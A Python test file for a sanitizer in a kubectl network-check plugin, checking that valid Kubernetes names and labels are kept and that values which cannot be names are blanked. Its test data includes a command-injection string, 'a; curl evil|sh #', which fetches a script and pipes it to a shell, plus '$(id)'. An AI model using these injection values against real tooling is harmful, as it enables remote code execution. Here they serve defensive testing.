"""Names of others: what can be one stays as it is, what cannot is left out."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubectl_netcheck.cluster.called import DEPTH, called

BAD, CLASS = "a; curl evil|sh #", "kubernetes.io/ingress.class"
#: Values that are kept, by a path of keys.
GOOD: list[tuple[str, Any]] = [
    ("metadata.name", "ip-10-0-0-1.eu-west-1.compute.internal"),
    ("metadata.namespace", "kube-system"),
    ("metadata.labels", {"app.kubernetes.io/name": "Web_1.0", "empty": "", "a": "B"}),
    ("metadata.annotations", {"x": BAD, CLASS: "nginx"}),
    ("spec.selector", {"matchLabels": {"k8s-app": "x"}, "matchExpressions": [{"key": "a"}]}),
    ("spec.nodeName", "node-a"),
    ("spec.rules", [{"host": "*.example.com"}, {"host": "shop.example.com"}]),
    ("spec.dnsConfig", {"options": [{"name": "no_aaaa"}]}),
    ("source.host", "Node_A"),
    ("endpoints", [{"targetRef": {"name": "web-1", "namespace": "shop"}, "nodeName": None}]),
    ("ports", [{"name": "", "port": 80}]),
    ("data", {"name": BAD}),
    ("message", BAD),
]
#: Values that are not, with what is kept of them.
LEFT_OUT: list[tuple[str, Any, Any]] = [
    *((key, BAD, "") for key in ("metadata.name", "metadata.namespace", "spec.nodeName")),
    *((key, BAD, "") for key in ("source.host", "reportingInstance", "spec.ingressClassName")),
    ("metadata.name", "-o=x", ""),
    ("metadata.name", "a\n", ""),
    ("metadata.name", ["a"], ""),
    ("metadata.ownerReferences", [{"name": BAD}], [{"name": ""}]),
    ("metadata.annotations", {CLASS: BAD}, {CLASS: ""}),
    ("metadata.labels", {"app": BAD, "$(id)": "a", "b": "c"}, {"b": "c"}),
    ("spec.selector", {"app": BAD, "tier": "web"}, {"tier": "web"}),
    ("spec.selector", {"matchLabels": {"app": BAD}}, {"matchLabels": {}}),
    ("spec.rules", [{"host": BAD}], [{"host": ""}]),
]


def at(path: str, value: Any) -> Any:
    for key in reversed(path.split(".")):
        value = {key: value}
    return value


@pytest.mark.parametrize(("path", "value"), GOOD, ids=[path for path, _ in GOOD])
def test_what_can_be_a_name_stays(path: str, value: Any) -> None:
    raw = at(path, value)
    assert called(raw) == raw


@pytest.mark.parametrize(("path", "value", "kept"), LEFT_OUT)
def test_what_can_be_no_name_is_left_out(path: str, value: Any, kept: Any) -> None:
    raw = at(path, value)
    before = json.dumps(raw)
    assert called(raw) == at(path, kept)
    assert json.dumps(raw) == before, "the object itself is left as it is"


def test_what_is_deeper_than_any_object_is_cut_off() -> None:
    raw: Any = "end"
    for _ in range(5 * DEPTH):
        raw = {"a": [raw]}
    assert "end" not in json.dumps(called(raw))


KEYS = ["metadata", "name", "labels", "selector", "host", "data", "nodeName", "x"]
ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=4),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=4)
    ),
    max_leaves=20,
)


@given(ANY)
def test_it_is_the_same_the_second_time(raw: Any) -> None:
    once = called(raw)
    assert called(once) == once
